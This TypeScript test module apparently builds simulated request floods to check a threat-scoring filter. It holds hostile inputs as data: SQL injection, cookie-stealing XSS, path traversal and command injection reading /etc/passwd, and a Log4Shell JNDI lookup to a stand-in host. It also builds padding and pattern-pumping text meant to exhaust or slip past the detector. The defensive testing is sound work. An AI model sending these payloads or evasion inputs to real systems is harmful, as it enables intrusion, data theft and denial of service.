import { requestBytes } from './connections.ts'
import { ordinaryBodies } from './ordinary-bodies.ts'

/**
 * What hostile clients send to wear the scorer out, what attacks others send meanwhile, and what everybody else asks:
 * bytes that are made before they are due.
 */
export const SCENARIOS = ['four clients', '40 addresses', '40 /64s of one /48'] as const
export type Scenario = typeof SCENARIOS[number]
export type Kind = 'hostile' | 'plain attack' | 'ordinary' | 'ordinary, large'

/** One request and when it goes out, in ms from the start of the flood. */
export interface Due { atMs: number, kind: Kind, request: Buffer[] }

const COUNTS = '{"query":"{ threatCounts { category count } }"}'
const ACTORS = JSON.stringify({
  query: 'query Actors($n: Int) { threatActors(first: $n) { nodes { name } } }',
  variables: { n: 3 }
})
/** Certain by themselves: what the filler beside them is to hide. */
const ATTACKS = [
  "1' UNION SELECT username, password FROM users-- ",
  "' OR 1=1-- ",
  '<script>alert(document.cookie)</script>'
]
const PLAIN = [
  '/?q=%27%20OR%201=1--%20',
  '/files?name=../../../../etc/passwd',
  '/?q=%3Cscript%3Ealert(1)%3C/script%3E',
  '/?x=%24%7Bjndi:ldap://203.0.113.66/a%7D',
  '/products?id=1%27%20UNION%20SELECT%20username,%20password%20FROM%20users--%20',
  '/ping?host=127.0.0.1%3Bcat%20/etc/passwd'
]
const PUMPED_CHARS = 14_000
const FILLER_CHARS = 58_000
const REDACTED_CHARS = 15_400

const ROLES = ['pumped', 'filler to /graphql', 'filler to an unknown route', 'secrets'] as const
type Role = typeof ROLES[number]
const ADDRESSES_PER_ROLE = 10
/** Within the standard tier: 100 requests in 60 s. */
const PER_SECOND = 8
const REQUESTS_MAX = 100
/** All in the first seconds: what a client sends that is blocked afterwards. */
const BURSTS: Readonly<Record<string, ReadonlyArray<{ atMs: number, size: number }>>> = {
  'filler to /graphql': [{ atMs: 600, size: 20 }, { atMs: 4_600, size: 60 }],
  'filler to an unknown route': [{ atMs: 2_600, size: 40 }, { atMs: 6_600, size: 40 }]
}

/** Addresses of the hostile clients; each role has its own. */
export function hostileAddresses (scenario: Scenario): string[] {
  const count = scenario === 'four clients' ? 1 : ADDRESSES_PER_ROLE
  return ROLES.flatMap((_, role) => Array.from({ length: count }, (_, i) => {
    const number = role * count + i + 1
    return scenario === '40 /64s of one /48' ? `2001:db8:bad:${number.toString(16)}::1` : `198.51.100.${number}`
  }))
}

/** All requests of a flood of so many seconds, in order. */
export function floodOf (scenario: Scenario, seconds: number): Due[] {
  const addresses = hostileAddresses(scenario)
  const perRole = addresses.length / ROLES.length
  const hostile = ROLES.flatMap((role, r) => hostileTimes(role, seconds).map((atMs, i): Due => {
    const from = addresses[r * perRole + i % perRole]!
    return { atMs, kind: 'hostile', request: hostileRequest(role, from, i) }
  }))
  return [...hostile, ...plainAttacks(seconds), ...ordinaryFor(seconds)].sort((a, b) => a.atMs - b.atMs)
}

/** When a hostile client sends: bursts, or one after the other; never more than its limit takes. */
function hostileTimes (role: Role, seconds: number): number[] {
  const bursts = BURSTS[role]
  const first = Math.min(seconds, 10)
  const times = bursts === undefined
    ? Array.from({ length: first * PER_SECOND }, (_, i) => Math.floor(i / PER_SECOND) * 1000 + offsetMs(role, i))
    : bursts.flatMap(({ atMs, size }) => Array.from({ length: size }, () => atMs))
  // Whoever is not blocked goes on to the end.
  const rest = seconds > first ? REQUESTS_MAX - times.length : 0
  const everyMs = (seconds - first) * 1000 / (rest + 1)
  return [...times, ...Array.from({ length: rest }, (_, i) => first * 1000 + (i + 1) * everyMs)]
}

/** Bodies for the redaction come at once, so that all are judged before the first has brought a block. */
function offsetMs (role: Role, i: number): number {
  return role === 'secrets' ? 300 : i % PER_SECOND * 1000 / PER_SECOND
}

function hostileRequest (role: Role, from: string, i: number): Buffer[] {
  const attack = ATTACKS[i % ATTACKS.length]!
  const query = '{ threatCounts { count } }'
  if (role === 'pumped') return pumped(from, attack, i)
  if (role === 'secrets') return post(from, '/graphql', { query, variables: { note: redacted(i), q: attack } })
  const filler = `{%${i}` + '{%'.repeat(FILLER_CHARS / 2)
  // Before the attack and after it: who stops early misses one of them.
  const values = i % 2 === 0 ? { filler, q: attack } : { q: attack, filler }
  return role === 'filler to /graphql'
    ? post(from, '/graphql', { query, variables: values })
    : post(from, '/shop/orders', values)
}

/** A plain attack in the query, and beside it text that a pattern may read again and again. */
function pumped (from: string, attack: string, i: number): Buffer[] {
  const unit = [';', '; ', ';(', ';( ', ';)']![i % 5]!
  const text = `the select few ${unit.repeat(Math.floor((PUMPED_CHARS - i) / unit.length))}z`
  const target = `/?q=${encodeURIComponent(attack)}`
  const place = Math.floor(i / 5) % 4
  if (place === 3) return requestBytes(from, `GET ${target}&x=${text.replaceAll(' ', '+')}`)
  return requestBytes(from, `GET ${target}`, { headers: `${['X-A', 'User-Agent', 'Referer'][place]}: ${text}\r\n` })
}

/** Names and quotes that hide secrets, without an end. */
function redacted (i: number): string {
  if (i % 2 === 0) return 'name='.repeat(REDACTED_CHARS / 5).slice(i)
  // Each backslash is two characters of JSON.
  return 'a="""' + '\\'.repeat(REDACTED_CHARS / 2 - i)
}

function post (from: string, path: string, body: object): Buffer[] {
  return requestBytes(from, `POST ${path}`, { body: Buffer.from(JSON.stringify(body)) })
}

/** Twenty a second, each from an address of its own that sends nothing else. */
function plainAttacks (seconds: number): Due[] {
  return Array.from({ length: seconds * 20 }, (_, i): Due => {
    const from = i % 3 === 0 ? `2001:db8:${(0x2000 + i).toString(16)}::7` : `198.18.${i >> 6}.${(i & 63) * 4 + 1}`
    const line = `GET ${PLAIN[i % PLAIN.length]}`
    return { atMs: i * 50 + 13, kind: 'plain attack', request: requestBytes(from, line) }
  })
}

const LARGE = ordinaryBodies(40, { seed: 11, minBytes: 20_000, maxBytes: 60_000 })

/** Fifty small ones and two large ones a second, from 200 addresses in turn. */
export function ordinaryFor (seconds: number): Due[] {
  const small = Array.from({ length: seconds * 50 }, (_, i): Due => {
    const from = ordinaryAddress(i)
    return { atMs: i * 20 + 7, kind: 'ordinary', request: smallRequest(from, i) }
  })
  const large = Array.from({ length: seconds * 2 }, (_, i): Due => {
    const from = ordinaryAddress(i * 7)
    const body = LARGE[i % LARGE.length]!
    const request = requestBytes(from, 'POST /graphql', { body })
    return { atMs: i * 500 + 250, kind: 'ordinary, large', request }
  })
  return [...small, ...large].sort((a, b) => a.atMs - b.atMs)
}

function ordinaryAddress (i: number): string {
  return i % 4 === 0 ? `2001:db8:${(0x1000 + i % 200).toString(16)}::1` : `192.0.2.${i % 200 + 1}`
}

function smallRequest (from: string, i: number): Buffer[] {
  if (i % 3 === 0) return requestBytes(from, 'GET /graphql?query=%7Bhealth%7Bstatus%7D%7D')
  return requestBytes(from, 'POST /graphql', { body: Buffer.from(i % 3 === 1 ? COUNTS : ACTORS) })
}
